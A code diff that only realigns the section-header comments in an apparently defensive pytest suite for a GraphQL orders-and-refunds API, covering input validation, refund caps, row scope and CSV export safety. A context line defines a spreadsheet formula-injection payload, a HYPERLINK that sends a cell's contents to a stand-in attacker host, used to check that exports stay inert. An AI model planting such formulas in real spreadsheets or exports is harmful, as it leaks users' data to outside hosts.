@@ -44,7 +44,7 @@ async def audit_count(api: Api) -> int:
         return await session.scalar(select(func.count()).select_from(AuditEvent)) or 0
 
 
-# ---- 1. money: one parser, ASCII digits, bounded ----------------------------------------------
+# ---- 1. money: one parser, ASCII digits, bounded ---------------------------------------------
 
 
 async def test_an_exponent_in_an_export_filter_is_refused_at_once(api: Api) -> None:
@@ -106,7 +106,7 @@ async def test_order_filters_refuse_bad_money(api: Api, value: str) -> None:
     assert errors_of(result) == [("BAD_USER_INPUT", None)]
 
 
-# ---- 2. refunds never exceed what was paid ----------------------------------------------------
+# ---- 2. refunds never exceed what was paid ---------------------------------------------------
 
 
 async def test_refunds_are_capped_by_what_was_paid_not_by_the_current_total(api: Api) -> None:
@@ -156,7 +156,7 @@ async def test_the_database_refuses_refunded_above_paid(api: Api) -> None:
             await session.execute(update, {"id": int(order["id"])})
 
 
-# ---- 3. free text cannot carry control characters ---------------------------------------------
+# ---- 3. free text cannot carry control characters --------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -206,7 +206,7 @@ async def test_a_pem_key_keeps_its_line_breaks(api: Api) -> None:
     assert signer.kid
 
 
-# ---- 6. kid is the exact string -----------------------------------------------------------------
+# ---- 6. kid is the exact string --------------------------------------------------------------
 
 
 @pytest.mark.parametrize("spelling", ["0{}", "１", " {}", "{}\u200b", "+{}"])
@@ -230,7 +230,7 @@ async def _refund(api: Api) -> tuple[dict[str, Any], dict[str, Any]]:
     return order, result["data"]["requestRefund"]
 
 
-# ---- 14. out of scope looks exactly like missing -------------------------------------------------
+# ---- 14. out of scope looks exactly like missing ---------------------------------------------
 
 
 async def test_an_out_of_scope_line_and_a_missing_line_answer_alike(api: Api) -> None:
@@ -246,7 +246,7 @@ async def test_an_out_of_scope_line_and_a_missing_line_answer_alike(api: Api) ->
     assert out_of_scope["errors"][0]["message"] == missing["errors"][0]["message"]
 
 
-# ---- 15. bad input of other shapes ---------------------------------------------------------------
+# ---- 15. bad input of other shapes -----------------------------------------------------------
 
 
 def _cursor(*parts: Any) -> str:
@@ -370,7 +370,7 @@ async def test_the_sign_command_escapes_what_it_shows(
     assert "\\x1b[2K" in shown.stderr
 
 
-# ---- 4. what records carry is shown under the reader's field policy -----------------------------
+# ---- 4. what records carry is shown under the reader's field policy --------------------------
 
 AUDIT_DETAILS = """query($a: String) { auditEvents(first: 20, filter: {action: $a})
   { edges { node { action details } } } }"""
@@ -447,7 +447,7 @@ async def test_an_export_filter_shows_amounts_only_to_readers_of_totals(api: Api
     assert "filter.minTotal" in logged["withheld"]
 
 
-# ---- 5. customers have a row scope --------------------------------------------------------------
+# ---- 5. customers have a row scope -----------------------------------------------------------
 
 
 async def _customers_by_channels(api: Api) -> tuple[set[int], set[int]]:
@@ -503,7 +503,7 @@ async def test_a_sales_customer_export_holds_only_its_channels(api: Api) -> None
     assert made["data"]["requestExport"]["expectedRows"] == len(inside)
 
 
-# ---- 7. logins do not stall other requests ---------------------------------------------
+# ---- 7. logins do not stall other requests ---------------------------------------------------
 
 
 async def test_other_requests_keep_flowing_during_a_burst_of_logins(api: Api) -> None:
@@ -530,7 +530,7 @@ async def test_other_requests_keep_flowing_during_a_burst_of_logins(api: Api) ->
     assert len(stalls) <= 2, (stalls, one_hash)
 
 
-# ---- 8. the cost limit counts variable defaults and introspection --------------------------------
+# ---- 8. the cost limit counts variable defaults and introspection ----------------------------
 
 
 async def test_variable_defaults_cost_what_literals_cost(api: Api) -> None:
@@ -572,7 +572,7 @@ async def test_graphiqls_introspection_query_still_fits(api: Api) -> None:
     assert result["data"]["__schema"]["types"]
 
 
-# ---- 9. no CSV carries a live formula ------------------------------------------------------------
+# ---- 9. no CSV carries a live formula --------------------------------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 LOGIN_AS = (
@@ -644,7 +644,7 @@ async def test_channel_supplied_names_are_inert_in_data_exports(api: Api) -> Non
     _no_live_formula(body)
 
 
-# ---- 10. a download is consumed once, whatever the database ---------------------------------------
+# ---- 10. a download is consumed once, whatever the database ----------------------------------
 
 
 async def test_parallel_downloads_get_the_file_once(any_api: Api) -> None:
